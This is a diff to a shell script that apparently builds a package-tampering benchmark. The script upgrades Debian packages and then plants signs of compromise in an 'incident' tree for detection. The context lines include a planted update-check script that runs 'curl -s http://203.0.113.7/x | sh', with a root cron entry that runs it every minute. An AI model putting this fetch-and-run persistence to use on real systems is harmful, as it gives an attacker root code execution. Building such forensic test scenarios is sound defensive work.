@@ -36,7 +36,9 @@ conffiles()
 	[ -n "$c" ] || return 0
 	echo "Conffiles:"
 	while read -r f; do
-		[ -f "$2$f" ] && printf ' %s %s\n' "$f" "$(md5sum < "$2$f" | cut -d' ' -f1)"
+		if [ -f "$2$f" ]; then
+			printf ' %s %s\n' "$f" "$(md5sum < "$2$f" | cut -d' ' -f1)"
+		fi
 	done <<< "$c"
 }
 
@@ -109,6 +111,7 @@ for d in debs/*.deb; do
 	dpkg-deb -b --root-owner-group x "new/$(basename "$d" .deb)+bench1.deb" > /dev/null
 	install_deb incident "new/$(basename "$d" .deb)+bench1.deb"
 	up=$((up + 1))
+	echo "$d" >> upgraded.txt
 done
 write_status incident
 # The plants, on packages the upgrade did not touch (the last ones).
@@ -129,8 +132,9 @@ printf '#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n' > incident/usr/local/bin
 chmod 755 incident/usr/local/bin/update-check
 printf '* * * * * root /usr/local/bin/update-check\n' > incident/etc/cron.d/update-check
 # A conffile of a package the upgrade did not touch, edited (dpkg would keep the edit).
-conf=$(for d in $(ls debs/*.deb | tail -n 20); do
-	dpkg-deb --ctrl-tarfile "$d" | tar -xO ./conffiles 2> /dev/null | grep '^/' || true
+conf=$(for d in debs/*.deb; do
+	grep -qxF "$d" upgraded.txt ||
+		dpkg-deb --ctrl-tarfile "$d" | tar -xO ./conffiles 2> /dev/null | grep '^/' || true
 done | while read -r f; do [ -f "incident$f" ] && echo "$f"; done | tail -n 1)
 [ -z "$conf" ] || printf '\n# planted\n' >> "incident$conf"
 echo "incident: $up packages upgraded; planted: $b1 (modified), $b2 (+ md5sums), $b3 (setuid)," \
